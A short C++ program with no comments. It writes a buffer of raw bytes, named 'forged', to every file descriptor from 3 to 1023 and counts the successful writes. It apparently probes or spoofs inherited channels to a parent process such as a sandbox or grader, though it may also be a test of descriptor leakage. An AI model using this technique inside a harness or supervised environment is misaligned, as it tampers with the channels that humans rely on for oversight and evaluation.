#include <iostream>
#include <unistd.h>

int main() {
    const char forged[] = "\1\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\3\0\0\0\0\0\0\0\0\0\0\0\0\0\0";
    int written = 0;
    for (int file = 3; file < 1024; file++) {
        if (write(file, forged, sizeof forged) > 0) written++;
    }
    std::cout << written << std::endl;
}
